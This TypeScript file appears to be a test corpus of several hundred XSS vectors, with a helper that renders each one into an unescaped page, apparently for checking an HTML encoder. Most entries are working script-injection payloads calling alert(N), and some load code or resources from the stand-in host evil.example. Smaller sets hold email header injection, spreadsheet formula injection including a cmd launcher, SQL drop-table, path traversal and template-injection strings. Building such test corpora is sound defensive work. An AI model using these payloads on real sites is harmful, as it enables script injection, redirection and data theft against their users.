/**
 * Everything we know of that has made somebody's words run, or leave the place they were given: our own collection, most
 * of it put together from parts. `RUN` stands for a call that says which one it was, `NUMBER` for that number, `AWAY`
 * for an address elsewhere.
 */

/** Where a page without an encoder would have put the words, so that they run there. */
type Within = keyof typeof places
export type Hostile = {
  text: string
  family: string
  within: Within
  /** Why no browser of today runs it, wherever it stands; kept because something else does, or did. */
  never: string | null
}

/** Raw pages, `WORDS` where the words go. The first is a page's body. */
const places = {
  body: 'WORDS <p title="x">y</p>',
  double: '<input value="WORDS">',
  single: "<input value='WORDS'>",
  bare: '<input value=WORDS>',
  link: '<a href="WORDS">x</a>',
  textarea: '<textarea>WORDS</textarea>',
  title: '<title>WORDS</title>',
  style: '<style>p { content: "WORDS" }</style>',
  comment: '<!-- WORDS -->',
  doubleInScript: '<script>var words = "WORDS"</script>',
  singleInScript: "<script>var words = 'WORDS'</script>",
  templateInScript: '<script>var words = `WORDS`</script>',
  inScriptComment: '<script>/* WORDS */</script>',
  inScriptLine: '<script>// WORDS\n</script>',
  json: '<script type="application/ld+json">{"text":"WORDS"}</script>',
  handler: `<img src=x onerror="String('WORDS')">`,
  srcdoc: '<iframe srcdoc="WORDS"></iframe>',
  noscript: '<noscript>WORDS</noscript>',
  xmp: '<xmp>WORDS</xmp>',
  iframe: '<iframe>WORDS</iframe>',
  noembed: '<noembed>WORDS</noembed>',
  select: '<select><option>WORDS</select>',
  svg: '<svg><text>WORDS</text></svg>',
  svgStyle: '<svg><style>WORDS</style></svg>',
  math: '<math><mtext>WORDS</mtext></math>',
  table: '<table><tr><td>WORDS</table>',
  /** As a feed: XML, which a browser runs as well. */
  cdata:
    '<?xml version="1.0"?><rss xmlns:h="http://www.w3.org/1999/xhtml"><item><description><![CDATA[WORDS]]></description></item></rss>',
  xml: '<?xml version="1.0"?><rss xmlns:h="http://www.w3.org/1999/xhtml"><item><title>WORDS</title></item></rss>',
  /** Changed after it was made safe: by taking characters out, by folding, by capitals, by decoding
   *  once more, by taking words out, by a backslash before quotation marks. */
  stripped: 'WORDS',
  folded: 'WORDS',
  capitals: 'WORDS',
  filtered: 'WORDS',
  slashed: '<script>var words = "WORDS"</script>',
  decoded: 'WORDS',
} as const

/** The raw page of a vector, as a site without an encoder sends it. */
export function rawPage({ text, within }: Hostile): { type: string; body: string } {
  const words = changes[within]?.(text) ?? text
  const body = places[within].replace('WORDS', () => words)
  const isXml = within === 'cdata' || within === 'xml'
  return isXml
    ? { type: 'text/xml; charset=utf-8', body }
    : { type: 'text/html; charset=utf-8', body: `<!doctype html><meta charset="utf-8">${body}` }
}

const changes: Partial<Record<Within, (text: string) => string>> = {
  // biome-ignore lint/suspicious/noControlCharactersInRegex: what a careless site takes out afterwards.
  stripped: (text) => text.replace(/[\u0000\u00ad\u200b-\u200d\u2060\ufeff]/g, ''),
  folded: (text) => text.normalize('NFKC'),
  capitals: (text) => text.toUpperCase().replace(/ALERT/g, 'alert'),
  decoded: (text) => decodeURIComponent(text),
  filtered: (text) => text.replace(/<\/?script>/gi, ''),
  slashed: (text) => text.replace(/["']/g, '\\$&'),
}

type Made = Omit<Hostile, 'family' | 'never'> & { never?: string }
type Family = (say: Saying) => Made[]
/** What a vector calls when it runs, and where it goes when it leaves. */
type Saying = { run: string; away: string }

const inBody = (text: string): Made => ({ text, within: 'body' })
const inside = (within: Within) => (text: string) => ({ text, within })
const never = (why: string) => (text: string) => ({ text, within: 'body' as const, never: why })

/** Written once for every member of a family, so that each has a number of its own to say. */
function each<Part>(parts: readonly Part[], make: (part: Part, say: Saying) => Made): Family {
  return (say) => parts.map((part) => make(part, say))
}

function filled(text: string, { run, away }: Saying): string {
  return text.replaceAll('RUN', run).replaceAll('NUMBER', numberIn(run)).replaceAll('AWAY', away)
}

function numberIn(run: string): string {
  return run.replace(/\D/g, '')
}

/** The same way of being written down for every text. */
function written(texts: readonly string[], place: (text: string) => Made = inBody): Family {
  return each(texts, (text, say) => place(filled(text, say)))
}

const pairs = <Left, Right>(left: readonly Left[], right: readonly Right[]): [Left, Right][] =>
  left.flatMap((one) => right.map((other): [Left, Right] => [one, other]))

const entities = (text: string, write: (code: number) => string) =>
  Array.from(text, (character) => write(character.codePointAt(0) ?? 0)).join('')
const base64 = (text: string) => btoa(text)
const hex = (code: number, length: number) => code.toString(16).padStart(length, '0')

const scripts = written([
  '<script>RUN</script>',
  '<ScRiPt>RUN</sCrIpT>',
  '<script >RUN</script >',
  '<script\n>RUN</script\n>',
  '<script/x>RUN</script/x>',
  '<script\fx="y">RUN</script>',
  '<script>RUN</script',
  '<script>RUN//<!--</script>',
  '<script type=module>RUN</script>',
  '<script type="text/javascript">RUN</script>',
  '<script language=javascript>RUN</script>',
  '<script src=AWAY.js></script>',
  '<script src="data:text/javascript,RUN"></script>',
  '<script src=x onerror=RUN></script>',
  '<script nomodule>RUN</script><script>RUN</script>',
  '<script async src=data:,RUN></script>',
  '<script charset=utf-8>RUN</script>',
  '<<script>RUN//<</script>',
  '<script><!--\nRUN\n--></script>',
  '<p><script>RUN</script></p>',
  '</p></li></ol></section></main><script>RUN</script>',
])

/** Elements that run on their own, without anybody touching them. */
const byThemselves = written([
  '<img src=x onerror=RUN>',
  '<image src=x onerror=RUN>',
  '<img srcset=x onerror=RUN>',
  '<img src=x onerror=RUN//',
  '<img src onerror=RUN>',
  '<picture><img src=x onerror=RUN></picture>',
  '<input type=image src=x onerror=RUN>',
  '<input autofocus onfocus=RUN>',
  '<textarea autofocus onfocus=RUN></textarea>',
  '<select autofocus onfocus=RUN></select>',
  '<button autofocus onfocus=RUN>x</button>',
  '<p tabindex=0 autofocus onfocus=RUN>x</p>',
  '<a href=# autofocus onfocus=RUN>x</a>',
  '<div contenteditable autofocus onfocus=RUN>x</div>',
  '<details open ontoggle=RUN>x</details>',
  '<video src=x onerror=RUN></video>',
  '<video><source src=x onerror=RUN></video>',
  '<audio src=x onerror=RUN></audio>',
  '<audio><source src=x onerror=RUN></audio>',
  '<video src=x onloadstart=RUN></video>',
  '<object data=x onerror=RUN></object>',
  '<embed src=x onload=RUN>',
  '<iframe onload=RUN></iframe>',
  '<iframe src=about:blank onload=RUN></iframe>',
  '<body onload=RUN>',
  '<body onpageshow=RUN>',
  '<style onload=RUN></style>',
  '<style>p{}</style onload=x><style onload=RUN>p{}</style>',
  '<link rel=stylesheet href=x onerror=RUN>',
  '<link rel=stylesheet href=data:text/css, onload=RUN>',
  '<link rel=preload as=script href=x onerror=RUN>',
  '<style>@keyframes k{}</style><p style="animation:k 1s" onanimationstart=RUN>x</p>',
  '<track><video><track default src=data:text/vtt,WEBVTT onload=RUN></video><img src=x onerror=RUN>',
  '<img src="data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22/>" onload=RUN>',
  '<img/src/onerror=RUN>',
  '<img\tsrc=x\tonerror=RUN>',
  '<img src=x:x onerror=RUN>',
  '<x><img src=x onerror=RUN></x>',
  '<isindex><img src=x onerror=RUN>',
])

/** Something somebody does, or their machine does for them. */
const doings = each(
  [
    ...['click', 'dblclick', 'mousedown', 'mouseup', 'mouseover', 'mouseenter', 'mousemove', 'mouseout', 'contextmenu'],
    ...['pointerdown', 'pointerover', 'pointermove', 'auxclick', 'wheel', 'keydown', 'keyup', 'keypress', 'focusin'],
    ...['copy', 'cut', 'paste', 'drag', 'dragstart', 'dragend', 'drop', 'dragover', 'input', 'beforeinput', 'change'],
    ...['select', 'invalid', 'scroll', 'animationend', 'animationiteration'],
    ...['touchstart', 'touchend', 'gotpointercapture', 'lostpointercapture', 'beforetoggle', 'close', 'cancel'],
  ],
  (name, { run }) => inBody(`<p on${name}=${run}>x</p>`),
)

/** What may stand between the parts of a tag, and what round a value. */
const apart = each(pairs([' ', '\n', '\r', '\f', '/', '/ /', ' / ', '\t\t'], ['', '"', "'"]), ([gap, quote], { run }) =>
  inBody(`<img${gap}src=x${gap === '/' || gap === '/ /' ? ' ' : gap}onerror=${quote}${run}${quote}>`),
)

/** One call written in many ways, in one handler. */
const calls = each(
  [
    (run: string) => entities(run, (code) => `&#${code};`),
    (run: string) => entities(run, (code) => `&#x${hex(code, 2)};`),
    (run: string) => entities(run, (code) => `&#X${hex(code, 8).toUpperCase()};`),
    (run: string) => entities(run, (code) => `&#${String(code).padStart(7, '0')}`),
    (run: string) => run.replace('(', '&lpar;').replace(')', '&rpar;'),
    (run: string) => run.replace('(', '&NewLine;(&Tab;'),
    (run: string) => run.replace('alert', '\\u0061lert'),
    (run: string) => run.replace('alert', '\\u{61}lert'),
    (run: string) => run.replace('alert', "top['al'+'ert']"),
    (run: string) => run.replace('alert', 'self[/al/.source+/ert/.source]'),
    (run: string) => run.replace('alert', "window['\\x61lert']"),
    (run: string) => run.replace('alert', '(alert)'),
    (run: string) => run.replace('alert', 'alert?.'),
    (run: string) => run.replace('alert', '/**/alert/**/'),
    (run: string) => run.replace('alert', 'globalThis.alert'),
    (run: string) => run.replace('alert(', 'alert`').replace(')', '`'),
    (run: string) => run.replace('alert(', '[').replace(')', '].map(alert)'),
    (run: string) => run.replace('alert(', 'Reflect.apply(alert,null,[').replace(')', '])'),
    (run: string) => `eval(atob('${base64(run)}'))`,
    (run: string) => `Function('${run}')()`,
    (run: string) => `[].constructor.constructor('${run}')()`,
    (run: string) => `setTimeout('${run}')`,
    (run: string) => `location='javascript:${run}'`,
    (run: string) => `window.onerror=alert;throw ${numberIn(run)}`,
    (run: string) => `import('data:text/javascript,${run}')`,
    (run: string) => `document.write('<script>${run}</'+'script>')`,
    (run: string) => `this.onerror=null;${run}`,
    (run: string) => `with(document)${run}`,
    (run: string) => `eval('${Array.from(run, (character) => `\\${character.charCodeAt(0).toString(8)}`).join('')}')`,
    (run: string) => `{x:${run}}`,
    (run: string) => `void ${run}`,
    (run: string) => `1;${run};//`,
  ],
  (write, { run }) => inBody(`<img src=x onerror="${write(run)}">`),
)

/** Elements with an address, `HERE` where it goes. */
const carriers = [
  '<a href="HERE">x</a>',
  '<a href=x xlink:href=y><svg><a xlink:href="HERE"><text>x</text></a></svg></a>',
  '<map><area href="HERE" shape=default></map>',
  '<iframe src="HERE"></iframe>',
  '<form action="HERE"><button>x</button></form>',
  '<form><button formaction="HERE">x</button></form>',
  '<form><input type=submit formaction="HERE"></form>',
]
const schemes = [
  'javascript:RUN',
  'JaVaScRiPt:RUN',
  ' javascript:RUN',
  '\u0001javascript:RUN',
  'java\tscript:RUN',
  'java\nscript:RUN',
  'javascript\r\n:RUN',
  'javascript&colon;RUN',
  'javascript&#58RUN',
  '&#106;avascript:RUN',
  'java&Tab;script:RUN',
  'javascript://a.example/%0aRUN',
  'javascript:%61lert(NUMBER)',
  'javascript:/*--></style>*/RUN',
  'javascript:void RUN',
]
const byAddress: Family = (say) =>
  pairs(carriers, schemes)
    // One carrier with every scheme, and every carrier with the first few: more would say nothing new.
    .filter(([carrier, scheme]) => carrier === carriers[0] || schemes.indexOf(scheme) < 4 || carrier === carriers[3])
    .map(([carrier, scheme]) => inBody(filled(carrier.replace('HERE', scheme), say)))

const onlyAnAddress = written(
  [
    'javascript:RUN',
    'javascript:RUN//https://a.example',
    'javascript://a.example/%0ARUN',
    "jaVasCript:/*-/*`/*\\`/*'/**/(/* */RUN)//",
    '#" onfocus="RUN" autofocus x="',
    'https://a.example/"onmouseover="RUN',
    'https://a.example/?q="><img src=x onerror=RUN>',
    'https://a.example/"><script>RUN</script>',
    'http://[::1]:99999/"onclick="RUN',
    'https://user:pass@a.example/"><svg onload=RUN>',
    'mailto:a@a.example?subject="><img src=x onerror=RUN>',
    '//a.example/"onpointerover="RUN',
    '/path"/autofocus/onfocus="RUN',
    'data:text/html,"><img src=x onerror=RUN>',
  ],
  inside('link'),
)

const outOfAttributes: Family = (say) => [
  ...written(
    [
      '"><script>RUN</script>',
      '"><img src=x onerror=RUN>',
      '" autofocus onfocus="RUN',
      '"autofocus onfocus="RUN',
      '"/autofocus/onfocus="RUN',
      '"\nautofocus\nonfocus="RUN',
      '" onmouseover="RUN" x="',
      '" onclick=RUN x="',
      '" type=image src=x onerror="RUN',
      '" style="animation:k" onanimationend="RUN',
      '"></input><svg onload=RUN>',
      '" accesskey=x onclick="RUN',
    ],
    inside('double'),
  )(say),
  ...written(
    [
      "'><script>RUN</script>",
      "'><img src=x onerror=RUN>",
      "' autofocus onfocus='RUN",
      "' onmouseover=RUN x='",
      "' onclick='RUN",
      "'/onpointerover='RUN",
      "'><svg/onload=RUN>",
    ],
    inside('single'),
  )(say),
  ...written(
    [
      'x autofocus onfocus=RUN',
      'x\tonclick=RUN',
      'x\nonmouseover=RUN',
      'x\fautofocus\fonfocus=RUN',
      'x><script>RUN</script>',
      'x/><img src=x onerror=RUN>',
      '` autofocus onfocus=RUN ',
      '"x"autofocus onfocus=RUN',
    ],
    inside('bare'),
  )(say),
  ...written(
    ["');RUN;//", "'-RUN-'", "'+RUN+'", '&#39;);RUN;//', '&apos;-RUN-&apos;', '\\u0027);RUN//&#39;);RUN//'],
    inside('handler'),
  )(say),
]

/** What ends an element whose content is text, and goes on as markup. */
const outOfElements: Family = (say) =>
  (
    [
      ['textarea', '</textarea>'],
      ['textarea', '</TEXTAREA\n>'],
      ['title', '</title>'],
      ['title', '</tItLe x>'],
      ['style', '</style>'],
      ['style', '"}</style/>'],
      ['comment', '-->'],
      ['comment', '--!>'],
      ['comment', '--><!--x-->'],
      ['noscript', '</noscript>'],
      ['xmp', '</xmp>'],
      ['iframe', '</iframe>'],
      ['noembed', '</noembed>'],
      ['select', '</select>'],
      ['svg', '</svg>'],
      ['svgStyle', '</style>'],
      ['math', '</math>'],
      ['table', '</table>'],
    ] as const
  ).flatMap(([within, end]) =>
    ['<script>RUN</script>', '<img src=x onerror=RUN>'].map((text) => ({ text: end + filled(text, say), within })),
  )

const inScripts: Family = (say) => [
  ...written(
    ['";RUN//', '"-RUN-"', '</script><script>RUN</script>', '</script><svg onload=RUN>', '"+RUN+"'],
    inside('doubleInScript'),
  )(say),
  ...written(["';RUN//", "'-RUN-'", '</ScRiPt><img src=x onerror=RUN>'], inside('singleInScript'))(say),
  ...written(['$' + '{RUN}', '`;RUN//', '`+RUN+`', '</script\f><script>RUN</script>'], inside('templateInScript'))(say),
  ...written(['*/RUN/*', '*/;RUN;/*', '</script x><script>RUN</script>'], inside('inScriptComment'))(say),
  ...written(['\nRUN//', '\u2028RUN//', '\u2029RUN//', '\rRUN//'], inside('inScriptLine'))(say),
  ...written(
    [
      '</script><script>RUN</script>',
      '</SCRIPT\n><img src=x onerror=RUN>',
      '"}</script><svg onload=RUN>',
      '<!--</script><script>RUN</script>-->',
      '\\u0022}</script/><script>RUN</script>',
      '</script ><iframe srcdoc="&lt;script&gt;RUN&lt;/script&gt;">',
    ],
    inside('json'),
  )(say),
]

const foreign = written([
  '<svg onload=RUN>',
  '<svg/onload=RUN>',
  '<svg\nonload=RUN//',
  '<svg><script>RUN</script></svg>',
  '<svg><script>&#97;lert(1),RUN</script></svg>',
  '<svg><script href="data:text/javascript,RUN"/></svg>',
  '<svg><script xlink:href="data:,RUN"/></svg>',
  '<svg><animate onbegin=RUN attributeName=x dur=1s>',
  '<svg><set onbegin=RUN attributeName=x dur=1s>',
  '<svg><animateTransform onbegin=RUN attributeName=transform dur=1s>',
  '<svg><animateMotion onbegin=RUN dur=1s>',
  '<svg><image href=x onerror=RUN>',
  '<svg><image xlink:href=x onerror=RUN>',
  '<svg><a href="javascript:RUN"><text>x</text></a></svg>',
  '<svg><a><animate attributeName=href values="javascript:RUN"/><text>x</text></a></svg>',
  '<svg><foreignObject><img src=x onerror=RUN></foreignObject></svg>',
  '<svg><title><img src=x onerror=RUN></title></svg>',
  '<svg><desc><script>RUN</script></desc></svg>',
  '<svg><style><img src=x onerror=RUN></style></svg>',
  '<svg></p><img src=x onerror=RUN>',
  '<svg><p><img src=x onerror=RUN></p></svg>',
  '<![CDATA[><img src=x onerror=RUN>]]>',
  '<math><mtext><img src=x onerror=RUN></mtext></math>',
  '<math href="javascript:RUN">x</math><img src=x onerror=RUN>',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=RUN></annotation-xml></math>',
  '<math><mi><script>RUN</script></mi></math>',
  '<math><style><img src=x onerror=RUN></style></math>',
  '<math></p><img src=x onerror=RUN>',
])

/** What is harmless in one reading and not in the next, and what unbalances a careless one. */
const mutations = written([
  '<noscript><p title="</noscript><img src=x onerror=RUN>">',
  '<svg></p><style><a id="</style><img src=1 onerror=RUN>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=RUN>',
  '<table><img src=x onerror=RUN></table>',
  '<select><img src=x onerror=RUN></select><img src=x onerror=RUN>',
  '<template><s><template><s><img src=x onerror=RUN>x</s></template></s></template><img src=x onerror=RUN>',
  '<xmp><p title="</xmp><svg/onload=RUN>">',
  '<textarea><p title="</textarea><img src=x onerror=RUN>"></textarea>',
  '<title><p title="</title><img src=x onerror=RUN>"></title>',
  '<!--><img src=x onerror=RUN>-->',
  '<!-><img src=x onerror=RUN>',
  '<!--->\n<script>RUN</script>',
  '<? x ><img src=x onerror=RUN>',
  '</ x ><img src=x onerror=RUN>',
  '<!doctype x><img src=x onerror=RUN>',
  '<img title="\'><img src=x onerror=RUN>" src="y"><img src=x onerror=RUN>',
  '<p title="x>"><img src=x onerror=RUN></p>',
  '<a href="x"\n><script>RUN</script></a>',
  '<listing>&lt;img src=1 onerror=RUN&gt;</listing><img src=x onerror=RUN>',
  '<iframe><p title="</iframe><img src=x onerror=RUN>"></iframe>',
])

const frames: Family = (say) => [
  ...written([
    '<iframe srcdoc="<script>RUN</script>"></iframe>',
    '<iframe srcdoc="&lt;script&gt;RUN&lt;/script&gt;"></iframe>',
    '<iframe srcdoc="&lt;img src=x onerror=RUN&gt;"></iframe>',
    "<iframe srcdoc='<svg onload=RUN>'></iframe>",
    '<iframe src="data:text/html,<script>RUN</script>"></iframe>',
    '<iframe src="data:text/html,%3Cscript%3ERUN%3C/script%3E"></iframe>',
    '<iframe src="data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22RUN%22/>"></iframe>',
    '<object data="data:text/html,<script>RUN</script>"></object>',
    '<embed src="data:text/html,<script>RUN</script>">',
    '<embed src="javascript:RUN"><img src=x onerror=RUN>',
    '<iframe src=AWAY></iframe>',
    '<object data=AWAY></object>',
    '<embed src=AWAY>',
  ])(say),
  inBody(`<iframe src="data:text/html;base64,${base64(`<script>${say.run}</script>`)}"></iframe>`),
  inBody(`<script src="data:text/javascript;base64,${base64(say.run)}"></script>`),
  ...written(
    [
      '&lt;script&gt;RUN&lt;/script&gt;',
      '&lt;img src=x onerror=RUN&gt;',
      '&#60;svg onload=RUN&#62;',
      '<script>RUN</script>',
    ],
    inside('srcdoc'),
  )(say),
]

/** What runs nothing and still takes a reader, or what a reader sends, elsewhere. */
const elsewhere = written([
  '<meta http-equiv=refresh content="0;url=AWAY">',
  '<META HTTP-EQUIV="Refresh" CONTENT="0; URL=\'AWAY\'">',
  '<meta http-equiv=refresh content="0;AWAY">',
  '<base href="AWAY/"><img src=relative>',
  '<base href=AWAY/><script src=relative.js></script>',
  '<link rel=stylesheet href=AWAY.css>',
  '<style>@import "AWAY.css"</style>',
  '<style>@import url(AWAY.css);</style>',
  '<style>body{background:url(AWAY)}</style>',
  '<p style="background:url(AWAY)">x</p>',
  '<p style="background-image:\\75rl(AWAY)">x</p>',
  '<style>@font-face{font-family:f;src:url(AWAY)}body{font-family:f}</style>x',
  '<img src=AWAY>',
  '<img srcset="AWAY 1x">',
  '<video poster=AWAY></video>',
  '<audio src=AWAY autoplay></audio>',
  '<table background=AWAY><tr><td>x</table>',
  '<body background=AWAY>',
  '<input type=image src=AWAY>',
  '<form action=AWAY><button>x</button></form>',
  '<svg><image href=AWAY /></svg>',
  '<svg><use href=AWAY#x /></svg><img src=AWAY>',
  '<link rel=preload as=image href=AWAY>',
  '<link rel=icon href=AWAY><img src=AWAY>',
  "<img src='AWAY?said=<p>what follows</p>'>",
  '<svg><feImage href=AWAY /></svg><img src=AWAY>',
])

const changedAfterwards: Family = (say) => [
  ...written(
    [
      '<scr\u0000ipt>RUN</scr\u0000ipt>',
      '<\u0000script>RUN</\u0000script>',
      '<img src=x on\u0000error=RUN>',
      '<scr\u200bipt>RUN</scr\u200bipt>',
      '<img src=x one\u200crror=RUN>',
      '<\ufeffscript>RUN</script>',
      '<scr\u00adipt>RUN</scr\u00adipt>',
      '<svg on\u2060load=RUN>',
    ],
    inside('stripped'),
  )(say),
  ...written(
    [
      '\uff1cscript\uff1eRUN\uff1c/script\uff1e',
      '\uff1cimg src=x onerror=RUN\uff1e',
      '\ufe64svg onload=RUN\ufe65',
      '<\uff53cript>RUN</\uff53cript>',
      '<img src=x \u24de\u24ddonerror=x onerror=RUN>',
    ],
    inside('folded'),
  )(say),
  ...written(
    ['<\u017fcript>RUN</\u017fcript>', '<\u017fvg onload=RUN>', '<\u0131mg src=x onerror=RUN>'],
    inside('capitals'),
  )(say),
  ...written(
    [
      '<scr<script>ipt>RUN</scr</script>ipt>',
      '<<script>script>RUN</</script>script>',
      '<img on<script>error=RUN src=x>',
    ],
    inside('filtered'),
  )(say),
  ...written(['\\";RUN//', "\\';RUN//</script><script>RUN</script>", '\\"-RUN//'], inside('slashed'))(say),
  ...written(
    ['%3Cscript%3ERUN%3C/script%3E', '%3Cimg%20src=x%20onerror=RUN%3E', '%3csvg/onload%3dRUN%3e'],
    inside('decoded'),
  )(say),
]

const feeds: Family = (say) => [
  ...written(
    [
      ']]><h:script>RUN</h:script><![CDATA[',
      ']]><script xmlns="http://www.w3.org/1999/xhtml">RUN</script><![CDATA[',
      ']]><svg xmlns="http://www.w3.org/2000/svg" onload="RUN"/><![CDATA[',
      ']]>]]&gt;<h:img src="x" onerror="RUN"/><![CDATA[',
    ],
    inside('cdata'),
  )(say),
  ...written(
    [
      '</title><h:script>RUN</h:script><title>',
      '<h:script><![CDATA[RUN]]></h:script>',
      '<script xmlns="http://www.w3.org/1999/xhtml">RUN</script>',
      '<svg xmlns="http://www.w3.org/2000/svg"><script>RUN</script></svg>',
    ],
    inside('xml'),
  )(say),
]

/** Once dangerous: no browser of today runs these, and a mail program or an old one may. */
const once: Family = (say) => [
  ...written(
    [
      '<img src="javascript:RUN">',
      '<img lowsrc="javascript:RUN">',
      '<table background="javascript:RUN">',
      '<bgsound src="javascript:RUN">',
      '<link rel=stylesheet href="javascript:RUN">',
      '<p style="width:expression(RUN)">x</p>',
      '<p style="behavior:url(x.htc)">RUN</p>',
      '<p style="-moz-binding:url(x.xml#y)">RUN</p>',
      '<xss style="xss:expression(RUN)">',
      '<a href="vbscript:RUN">x</a>',
      '<a href="livescript:RUN">x</a>',
      '<a href="feed:javascript:RUN">x</a>',
      '<a href="view-source:javascript:RUN">x</a>',
      '<a href="jar:https://a.example!/x.html">RUN</a>',
      '<meta http-equiv=refresh content="0;url=javascript:RUN">',
      '<meta http-equiv=set-cookie content="a=RUN">',
      '<a href="data:text/html,<script>RUN</script>">x</a>',
      '<layer src="javascript:RUN"></layer>',
      '<xml id=x><a><b>&lt;script>RUN&lt;/script></b></a></xml>',
      '<!--[if gte IE 4]><script>RUN</script><![endif]-->',
      '<script for=x event=y>RUN</script>',
      '<br size="&{RUN}">',
      '<svg><use href="data:image/svg+xml,<svg id=x onload=RUN xmlns=%22http://www.w3.org/2000/svg%22/>#x"/></svg>',
      '<portal src="javascript:RUN"></portal>',
      '<marquee onstart=RUN>x</marquee>',
      '<math><mtext></form><form><mglyph><style></math><img src onerror=RUN>',
      '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=RUN&gt;">',
    ],
    never('browsers no longer do this'),
  )(say),
  ...written(
    [
      '+ADw-script+AD4-RUN+ADw-/script+AD4-',
      '+ADw-img src+AD0-x onerror+AD0-RUN+AD4-',
      '+/v8 +ADw-svg onload+AD0-RUN+AD4-',
      '\u001b(J\u00bcscript\u00beRUN\u00bc/script\u00be',
      '\u00bcscript\u00beRUN\u00bc/script\u00be',
    ],
    never('every page says that it is UTF-8'),
  )(say),
  ...written(
    [
      '&lt;script&gt;RUN&lt;/script&gt;',
      '&#60;script&#62;RUN&#60;/script&#62;',
      '&amp;lt;script&amp;gt;RUN',
      '\\u003cscript\\u003eRUN\\u003c/script\\u003e',
      '\\x3cscript\\x3eRUN\\x3c/script\\x3e',
      '%253Cscript%253ERUN',
      '< script>RUN</script>',
      '<\u00a0script>RUN</script>',
    ],
    never('only what is decoded once more would run'),
  )(say),
  ...written(
    [
      '{{constructor.constructor("RUN")()}}',
      '{{$on.constructor("RUN")()}}',
      '<p ng-app>{{RUN}}</p>',
      '<p v-html="RUN">x</p>',
      '<p x-data x-init="RUN">x</p>',
      '$' + '{RUN}',
      '#{RUN}',
      '<%= RUN %>',
      '{% RUN %}',
      '[[$' + '{RUN}]]',
      '{{{RUN}}}',
      '@(RUN)',
      '<?php RUN ?>',
      '<!--#exec cmd="RUN"-->',
      '[x](javascript:RUN)',
      '![x](x"onerror="RUN)',
      '[x]: javascript:RUN',
      '<javascript:RUN>',
    ],
    never('no template language reads a page here'),
  )(say),
  ...written(
    [
      'x\r\nBcc: all@evil.example',
      'x\nTo: all@evil.example\n\nRUN',
      'x\r\n\r\nRUN',
      'x%0d%0aBcc: all@evil.example',
      'x\u2028Bcc: all@evil.example',
      'x\u0085Bcc: all@evil.example',
      'x\u000bBcc: all@evil.example',
      '=?utf-8?Q?x=0D=0ABcc:_all@evil.example?=',
      'x\r\n.\r\nMAIL FROM:<a@evil.example>',
      '"x" <all@evil.example>, y',
    ],
    never('it is meant for a mail program'),
  )(say),
  ...written(
    [
      '=1+1',
      '=HYPERLINK("AWAY","x")',
      '+1+1',
      '-1+1',
      '@SUM(1)',
      "=cmd|' /C calc'!A0",
      '\t=1+1',
      '\r=1+1',
      '|=1+1',
      '%=1+1',
      '\uff1d1+1',
      ' =1+1',
      '";=1+1;"',
      '=IMPORTXML("AWAY","//x")',
    ],
    never('it is meant for a spreadsheet'),
  )(say),
  ...written(
    [
      '\u202egnp.exe\u202c \u2066x\u2069',
      '\ud800 half a letter',
      `Z${'\u0335'.repeat(40)}algo`,
      '\u0008\u0008\u0008\u001b[2J\u001b]0;x\u0007',
      '\ufff9a\ufffab\ufffb',
      '{"__proto__":{"x":"RUN"}}',
      '"}\n{"id":"forged","body":"RUN"}',
      "'; drop table replies; --",
      '../../../../etc/passwd',
    ],
    never('it disturbs and runs nowhere'),
  )(say),
]

const families: Record<string, Family> = {
  ...{ scripts, byThemselves, doings, apart, calls, byAddress, onlyAnAddress, outOfAttributes, outOfElements },
  ...{ inScripts, foreign, mutations, frames, elsewhere, changedAfterwards, feeds, once },
}

/** Every vector; the one at place N calls `alert(N)`, or goes to `//evil.example/N`. */
export const hostile: readonly Hostile[] = numbered()

function numbered(): Hostile[] {
  const all: Hostile[] = []
  const seen = new Set<string>()
  for (const [family, make] of Object.entries(families)) {
    for (const [member, { text: shape }] of make(sayingOf(0)).entries()) {
      // Made anew for each of its members, so that each has the number of its own place.
      const made = make(sayingOf(all.length))[member]
      if (made && !seen.has(shape)) all.push({ ...made, family, never: made.never ?? null })
      seen.add(shape)
    }
  }
  return all
}

function sayingOf(number: number): Saying {
  return { run: `alert(${number})`, away: `//evil.example/${number}` }
}
